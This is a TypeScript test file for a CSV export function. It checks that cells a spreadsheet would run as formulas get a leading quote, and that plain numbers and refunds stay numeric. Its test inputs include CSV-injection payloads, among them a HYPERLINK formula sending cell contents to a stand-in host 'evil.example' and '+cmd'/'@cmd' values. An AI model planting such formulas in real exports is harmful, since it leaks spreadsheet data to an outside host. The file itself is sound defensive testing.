import { test } from 'node:test';
import assert from 'node:assert/strict';
import { field } from './csv.ts';
import type { QueryPort } from './ports.ts';
import { appWith, queriesMustNotBeCalled } from './test-helpers.ts';

test('csv - a cell a spreadsheet would run as a formula gets a leading quote (OWASP)', () => {
  const cases: [unknown, string][] = [
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tlead', "'\tlead"],
    ['\r=x', `"'\r=x"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['-', "'-"],
    ['--1', "'--1"],
    ['1e5x', '1e5x'],
  ];
  for (const [v, expected] of cases) assert.equal(field(v), expected, JSON.stringify(v));
});

test('csv - plain numbers stay numbers: counts, refunds, signed and exponent forms', () => {
  for (const v of ['-19.99', '+5', '-0.5', '19.99', '-1e-7', '0']) assert.equal(field(v), v, v);
  for (const v of [-19.99, 42, -3]) assert.equal(field(v), String(v));
  assert.equal(field(null), '');
  assert.equal(field('page.view'), 'page.view');
  assert.equal(field('a,b'), '"a,b"');
});

test('csv - GET /v1/reports/* with format=csv neutralizes a formula type and keeps a refund a number', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const queries: QueryPort = {
    ...queriesMustNotBeCalled,
    reportEvents: () => Promise.resolve({ total: 3, groups: [{ type: formula, count: 2 }, { type: '@cmd', count: 1 }] }),
    reportRevenue: () => Promise.resolve({ currencies: [{ currency: 'USD', revenue: '-19.99', events: 1, groups: [{ type: '+evil', revenue: '-19.99', events: 1 }] }] }),
  };
  const app = appWith({ queries });
  const events = await (await app.request('/v1/reports/events?groupBy=type&format=csv')).text();
  assert.equal(events, `type,count\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2\r\n'@cmd,1\r\n`);
  const revenue = await (await app.request('/v1/reports/revenue?groupBy=type&format=csv')).text();
  assert.equal(revenue, "currency,type,revenue,events\r\nUSD,'+evil,-19.99,1\r\n");
  // The JSON answer is the data as stored: only the export is neutralized.
  const json = (await (await app.request('/v1/reports/events?groupBy=type')).json()) as { groups: { type: string }[] };
  assert.equal(json.groups[0]?.type, formula);
});
